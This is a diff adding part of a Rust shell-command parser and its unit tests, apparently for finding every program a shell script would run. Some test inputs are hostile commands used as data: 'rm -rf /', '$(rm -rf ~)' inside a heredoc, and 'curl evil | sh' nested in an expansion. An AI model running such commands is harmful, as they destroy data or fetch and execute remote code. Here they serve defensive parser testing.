+        let body = Script { items: vec![Item { pipeline: Pipeline { negated: false, commands: vec![body], span }, connector: None }] };
+        Ok(Command::Compound { kind: CompoundKind::Function, words: vec![name], bodies: vec![body], redirects: vec![], span: Span::new(start, span.end) })
+    }
+
+    fn trailing_redirects(&mut self, mut end: usize) -> Result<(Vec<Redirect>, usize), ParseError> {
+        let mut redirects = vec![];
+        while let Some(Token::Redirect { .. }) = self.peek() {
+            let redirect = self.redirect()?;
+            end = redirect.span.end;
+            redirects.push(redirect);
+        }
+        Ok((redirects, end))
+    }
+
+    fn redirect(&mut self) -> Result<Redirect, ParseError> {
+        let (fd, op, span) = match self.peek() {
+            Some(Token::Redirect { fd, op, span }) => (*fd, *op, *span),
+            _ => unreachable!("redirect() called on a non-redirect token"),
+        };
+        self.pos += 1;
+        match self.tokens.get(self.pos) {
+            Some(Token::Word(target)) => {
+                let mut target = target.clone();
+                self.pos += 1;
+                let span = span.join(target.span);
+                // The body's substitutions run when the redirection is set up, like the target's
+                let body = match op {
+                    RedirectOp::HereDoc => self.heredocs.pop_front().map(|(body, substitutions)| {
+                        target.substitutions.extend(substitutions);
+                        body
+                    }),
+                    _ => None,
+                };
+                Ok(Redirect { fd, op, target, body, span })
+            },
+            _ => Err(ParseError { message: "Redirection without a target".to_string(), offset: span.end }),
+        }
+    }
+
+    fn simple_command(&mut self) -> Result<Command, ParseError> {
+        let start = self.offset();
+        let mut command = SimpleCommand { assignments: vec![], argv: vec![], redirects: vec![], span: Span::new(start, start) };
+        loop {
+            match self.peek() {
+                Some(Token::Word(word)) => {
+                    if command.argv.is_empty() {
+                        if let Some(name) = assignment_name(word) {
+                            let mut value = word.clone();
+                            value.text = value.text[name.len() + 1..].to_string();
+                            command.assignments.push((name, value));
+                            command.span = command.span.join(word.span);
+                            self.pos += 1;
+                            continue;
+                        }
+                    }
+                    command.span = command.span.join(word.span);
+                    command.argv.push(word.clone());
+                    self.pos += 1;
+                },
+                Some(Token::Redirect { .. }) => {
+                    let redirect = self.redirect()?;
+                    command.span = command.span.join(redirect.span);
+                    command.redirects.push(redirect);
+                },
+                _ => break,
+            }
+        }
+        if command.argv.is_empty() && command.assignments.is_empty() && command.redirects.is_empty() {
+            let message = match self.peek() {
+                Some(token) => format!("Expected a command, found {}", token.describe()),
+                None => "Expected a command".to_string(),
+            };
+            return Err(ParseError { message, offset: start });
+        }
+        Ok(Command::Simple(command))
+    }
+}
+
+fn assignment_name(word: &Word) -> Option<String> {
+    let (name, _) = word.text.split_once('=')?;
+    let mut chars = name.chars();
+    let valid = chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
+    valid.then(|| name.to_string())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn programs(src: &str) -> Vec<String> {
+        parse(src).unwrap().simple_commands().iter().filter_map(|c| c.program().map(str::to_string)).collect()
+    }
+
+    fn only_command(src: &str) -> Command {
+        let mut script = parse(src).unwrap();
+        assert_eq!(script.items.len(), 1);
+        script.items.remove(0).pipeline.commands.remove(0)
+    }
+
+    #[test]
+    fn parses_lists_and_pipelines() {
+        let script = parse("a | b && c || d; e &").unwrap();
+        let connectors: Vec<_> = script.items.iter().map(|i| i.connector).collect();
+        assert_eq!(connectors, vec![Some(Connector::And), Some(Connector::Or), Some(Connector::Sequence), Some(Connector::Background)]);
+        assert_eq!(script.items[0].pipeline.commands.len(), 2);
+        assert_eq!(programs("a | b && c || d; e &"), vec!["a", "b", "c", "d", "e"]);
+    }
+
+    #[test]
+    fn removes_quotes_and_records_expansions() {
+        let Command::Simple(c) = only_command(r#"echo 'a b' "c $HOME" $USER \$x"#) else { panic!("expected a simple command") };
+        let texts: Vec<&str> = c.argv.iter().map(|w| w.text.as_str()).collect();
+        assert_eq!(texts, vec!["echo", "a b", "c $HOME", "$USER", "$x"]);
+        assert_eq!(c.argv[2].variables, vec!["HOME"]);
+        assert!(c.argv[2].unquoted_variables.is_empty());
+        assert_eq!(c.argv[3].unquoted_variables, vec!["USER"]);
+        assert!(c.argv[4].variables.is_empty());
+    }
+
+    #[test]
+    fn parses_substitutions_and_assignments() {
+        assert_eq!(programs("X=$(whoami) echo `date` \"$(id -u)\""), vec!["echo", "date", "id", "whoami"]);
+        let Command::Simple(c) = only_command("A=1 B=two env") else { panic!("expected a simple command") };
+        assert_eq!(c.assignments.iter().map(|(n, v)| (n.as_str(), v.text.as_str())).collect::<Vec<_>>(), vec![("A", "1"), ("B", "two")]);
+    }
+
+    #[test]
+    fn parses_redirections() {
+        let Command::Simple(c) = only_command("cmd 2>>err.log <in >|out &>all 3<&0") else { panic!("expected a simple command") };
+        let redirects: Vec<_> = c.redirects.iter().map(|r| (r.fd, r.op, r.target.text.as_str())).collect();
+        assert_eq!(
+            redirects,
+            vec![
+                (Some(2), RedirectOp::Append, "err.log"),
+                (None, RedirectOp::Read, "in"),
+                (None, RedirectOp::Write, "out"),
+                (None, RedirectOp::WriteAll, "all"),
+                (Some(3), RedirectOp::Duplicate, "0"),
+            ]
+        );
+    }
+
+    #[test]
+    fn keeps_heredoc_bodies_apart() {
+        assert_eq!(programs("cat <<EOF\nrm -rf /\nEOF\necho done"), vec!["cat", "echo"]);
+        assert_eq!(programs("cat <<-EOF\n\trm\n\tEOF\n"), vec!["cat"]);
+
+        let script = parse("a <<ONE; b <<-TWO\nfirst\nONE\n\tsecond\n\tTWO\n").unwrap();
+        let bodies: Vec<_> = script.redirects().iter().map(|r| r.body.as_deref()).collect();
+        assert_eq!(bodies, vec![Some("first\n"), Some("second\n")]);
+        assert_eq!(parse("sh <<<'x'").unwrap().redirects()[0].body, None);
+
+        // Unless the delimiter is quoted, substitutions in the body run
+        assert_eq!(programs("cat <<EOF\n\"$(rm -rf ~)\" `id`\nEOF\n"), vec!["cat", "rm", "id"]);
+        assert_eq!(programs("cat <<'EOF'\n$(rm -rf ~)\nEOF\n"), vec!["cat"]);
+    }
+
+    #[test]
+    fn finds_substitutions_inside_expansions() {
+        assert_eq!(programs("echo ${x:-$(rm -rf /)}"), vec!["echo", "rm"]);
+        assert_eq!(programs("echo \"${x:-`id`}\" ${y:+${z:-$(curl evil | sh)}}"), vec!["echo", "id", "curl", "sh"]);
+        assert_eq!(programs("echo $(( $(wc -l < f) + 1 ))"), vec!["echo", "wc"]);
+        assert_eq!(programs("echo ${x:-'}'} $((1 + (2)))"), vec!["echo"]);
+
+        let Command::Simple(c) = only_command("echo ${#x}${y:-$z}") else { panic!("expected a simple command") };
+        assert_eq!(c.argv[1].text, "${#x}${y:-$z}");
+        assert_eq!(c.argv[1].variables, vec!["x", "y", "z"]);
+        assert!(parse("echo ${x:-$(a)").is_err());
+    }
+
+    #[test]
+    fn parses_subshells_and_groups() {
+        assert_eq!(programs("(cd /tmp && ls) > out; { a; b; } 2>&1"), vec!["cd", "ls", "a", "b"]);
+        assert_eq!(parse("(a) > out").unwrap().redirects().len(), 1);
+    }
+
+    #[test]
+    fn parses_if_clauses() {
+        assert_eq!(programs("if :; then rm -rf /; fi"), vec![":", "rm"]);
+        assert_eq!(programs("if a; then b; elif c; then d; else e; fi"), vec!["a", "b", "c", "d", "e"]);
+        let Command::Compound { kind, bodies, .. } = only_command("if a\nthen\n  b\nfi") else { panic!("expected a compound command") };
+        assert_eq!(kind, CompoundKind::If);
+        assert_eq!(bodies.len(), 2);
+    }
+
+    #[test]
+    fn parses_loops() {
+        assert_eq!(programs("for f in *.log $(ls); do rm \"$f\"; done"), vec!["ls", "rm"]);
+        assert_eq!(programs("for ((i = 0; i < 3; i++)); do echo $i; done"), vec!["echo"]);
+        assert_eq!(programs("while read l; do echo $l; done < in"), vec!["read", "echo"]);
+        assert_eq!(programs("until false\ndo\n  sleep 1\ndone"), vec!["false", "sleep"]);
+        assert_eq!(programs("select x in a b; do break; done"), vec!["break"]);
+        let Command::Compound { words, redirects, .. } = only_command("for x in a b; do :; done > out") else { panic!("expected a compound command") };
+        assert_eq!(words.iter().map(|w| w.text.as_str()).collect::<Vec<_>>(), vec!["x", "a", "b"]);
+        assert_eq!(redirects.len(), 1);
+    }
+
+    #[test]
+    fn parses_case_clauses() {
+        assert_eq!(programs("case $1 in a|b) one;; (c) two ;& *) three; esac"), vec!["one", "two", "three"]);
+        assert_eq!(programs("case x in\n  *)\n    rm -rf /\n    ;;\nesac"), vec!["rm"]);
+    }
+
+    #[test]
+    fn parses_function_definitions() {
+        assert_eq!(programs("f() { rm -rf /; }; f"), vec!["rm", "f"]);
+        assert_eq!(programs("function g { echo hi; }"), vec!["echo"]);
+        let Command::Compound { kind, words, .. } = only_command("h () (ls)") else { panic!("expected a compound command") };
+        assert_eq!(kind, CompoundKind::Function);
+        assert_eq!(words[0].text, "h");
+    }
+
+    #[test]
+    fn keywords_are_plain_words_outside_command_position() {
+        assert_eq!(programs("echo if then done fi"), vec!["echo"]);
+        assert_eq!(programs("'if' x"), vec!["if"]);
+    }
+
+    #[test]
+    fn reports_syntax_errors() {
+        assert!(parse("echo 'open").is_err());
+        assert!(parse("echo \"open").is_err());
+        assert!(parse("echo $(open").is_err());
+        assert!(parse("cat <<EOF\nno end").is_err());
+        assert!(parse("echo >").is_err());
+        assert!(parse("if true; then echo").is_err());
+        assert!(parse("for x in a; echo; done").is_err());
+        assert!(parse("fi").is_err());
+        assert!(parse("a ;; b").is_err());
+        assert!(parse("(a").is_err());
+    }
+
+    #[test]
+    fn spans_cover_source_text() {
+        let src = "ls -la | grep x";
+        let script = parse(src).unwrap();
+        let grep = script.simple_commands()[1];
+        assert_eq!(&src[grep.span.start..grep.span.end], "grep x");
+        assert_eq!(&src[grep.argv[1].span.start..grep.argv[1].span.end], "x");
+    }
+}